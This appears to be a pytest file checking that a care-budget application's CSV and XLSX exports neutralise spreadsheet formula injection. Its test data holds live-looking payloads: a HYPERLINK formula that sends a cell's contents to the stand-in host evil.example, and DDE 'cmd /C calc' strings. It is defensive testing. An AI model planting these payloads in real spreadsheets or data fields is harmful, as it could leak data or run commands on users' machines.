"""Formula injection: no cell of any CSV or XLSX that phb writes can be run as a formula by a spreadsheet.

Each export is fed text a user or a bank could have typed that a spreadsheet would otherwise run. The rule
(OWASP, ASVS 5.0 V1.2.10): a text cell starting with = + - @ TAB or CR gets a leading ', XLSX text cells are
typed as text, and numbers stay numbers.
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from phb.accounts.rules import Role
from phb.accounts.services import actor_for
from phb.budgets import exports
from phb.budgets.rules import Category, Frequency, ManagementOption
from phb.budgets.schemas import SheetLineRead, SheetRead, TotalRead
from phb.money import gbp
from phb.plans import reports as plan_reports
from phb.spending import reports as spending_reports
from phb.spending.check import check_csv, load_default_rules
from phb.spreadsheets import FORMULA_TRIGGERS, neutralise
from tests.factories import make_person, make_user
from tests.factories_spending import make_account, make_finding

LINK = '=HYPERLINK("http://evil.example/?"&B5,"Open care notes")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PHB = Path(__file__).resolve().parent.parent.parent / "phb"


def _dangerous(value):
    plain_number = isinstance(value, str) and re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not plain_number


def _assert_csv_safe(text, *, must_contain):
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    for value in must_contain:
        assert "'" + value in cells  # still there, to read, as text


def _assert_xlsx_safe(data, *, must_contain):
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert not [c.value for c in cells if _dangerous(c.value)]
    for value in must_contain:
        assert "'" + value in [c.value for c in cells if c.data_type == "s"]
    return cells


def test_the_neutraliser_follows_owasps_rule_and_leaves_numbers_alone():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    assert neutralise("\uff1dcmd") == "'\uff1dcmd"  # the full-width equals sign
    for value in ["-12.34", "+44", "40046.34", "Care agency", "", "a=b", "2026-03-05"]:
        assert neutralise(value) == value
    assert neutralise(Decimal("-12.34")) == Decimal("-12.34")
    assert neutralise(7) == 7
    assert neutralise(None) is None


def _sheet():
    line = SheetLineRead(
        id=1,
        line_key="l1",
        description=LINK,
        outcomes=["@SUM(1+1)*cmd|' /C calc'!A0"],
        category=Category.PERSONAL_ASSISTANT_WAGES,
        unit_cost=gbp("-12.50"),
        quantity=Decimal(2),
        frequency=Frequency.WEEKLY,
        annual_cost=gbp("1300.00"),
        management_option=ManagementOption.NOTIONAL,
    )
    total = TotalRead(key="k", label="+1+cmd|' /C calc'!A0", amount=gbp("1300.00"))
    return SheetRead(
        person_id=1,
        version=1,
        latest_version=1,
        created_at=None,
        created_by_name=None,
        change=None,
        reason=None,
        lines=[line],
        annual_total=gbp("1300.00"),
        by_category=[total],
        by_management_option=[],
        final_budget_annual=None,
        remaining=None,
        indicative_annual=None,
        variance=None,
        variance_explanation="-2+3",
    )


def test_budget_sheet_csv_and_xlsx():
    sheet = _sheet()
    _assert_csv_safe(exports.sheet_csv(sheet), must_contain=[LINK, "-2+3"])
    assert "-12.50" in exports.sheet_csv(sheet)  # a negative amount is still a number
    cells = _assert_xlsx_safe(exports.sheet_xlsx(sheet, f"Budget sheet for {LINK}"), must_contain=[LINK, "-2+3"])
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -12.5 in numbers
    assert 1300 in numbers  # money cells stay numbers


def test_plan_report_csvs():
    # pcsp_csv, pcsp_records_csv, phb_return_csv and phb_return_records_csv all write through this one function.
    text = plan_reports._csv(["team", "count"], [[LINK, 3], ["-2+3", -1]])
    _assert_csv_safe(text, must_contain=[LINK, "-2+3"])
    assert "-1" in text.split()[-1]


def test_statements_check_csv():
    out = io.StringIO()
    source = "date,description,amount\n2026-03-05," + '"' + LINK.replace('"', '""') + '"' + ",-12.34\n"
    check_csv(io.StringIO(source), out, load_default_rules())
    _assert_csv_safe(out.getvalue(), must_contain=[LINK])
    assert ",-12.34," in out.getvalue()


def test_spending_audit_report_csv_and_xlsx(db):
    officer = actor_for(db, make_user(db, "dana", Role.DIRECT_PAYMENTS_OFFICER))
    person = make_person(db, "@SUM(1+1)*cmd|' /C calc'!A0", "Okafor")
    account = make_account(db, person.id, name=LINK, provider="-2+3")
    make_finding(db, account, payee="+1+cmd|' /C calc'!A0", reason=LINK)
    today = dt.datetime.now(dt.UTC).date()
    report = spending_reports.audit_report(db, officer, person.id, today - dt.timedelta(days=90), today)
    hostile = [LINK, "-2+3", "+1+cmd|' /C calc'!A0"]
    _assert_csv_safe(spending_reports.to_csv(report), must_contain=hostile)
    _assert_xlsx_safe(spending_reports.to_xlsx(report), must_contain=hostile)


@pytest.mark.parametrize("pattern", [r"\bcsv\.writer\(", r"\bcsv\.DictWriter\(", r"\bWorkbook\(\)"])
def test_every_export_goes_through_the_neutraliser(pattern):
    """A new export cannot forget: only the shared module makes CSV writers, and every workbook's module appends
    its rows with ``xlsx_append``. (The demo's statement generator writes import input, not an export.)"""
    allowed = {PHB / "spreadsheets.py", PHB / "spending" / "demo.py"}
    offenders = []
    for path in PHB.rglob("*.py"):
        text = path.read_text()
        if path in allowed or not re.search(pattern, text):
            continue
        direct_append = re.search(r"\b(ws|sheet|summary)\.append\(", text)
        if pattern.endswith(r"\(\)") and "xlsx_append(" in text and not direct_append:
            continue
        offenders.append(str(path.relative_to(PHB)))
    assert offenders == []
